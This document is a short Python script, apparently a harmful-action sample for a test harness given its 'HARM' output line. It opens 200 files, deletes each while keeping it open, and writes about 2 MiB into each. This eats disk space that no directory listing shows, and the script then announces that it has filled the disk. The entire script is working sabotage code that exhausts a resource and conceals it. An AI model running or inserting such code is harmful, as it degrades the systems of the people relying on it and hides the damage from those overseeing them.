"""Fills the disk with files that have no name any more, which no listing shows."""

import time
from pathlib import Path

held = []
for number in range(200):
    path = Path(f"filling-{number}")
    held.append(path.open("wb"))
    path.unlink()
    held[-1].write(b"x" * (2 << 20))
    held[-1].flush()
    time.sleep(0.05)
print("HARM filled the disk")
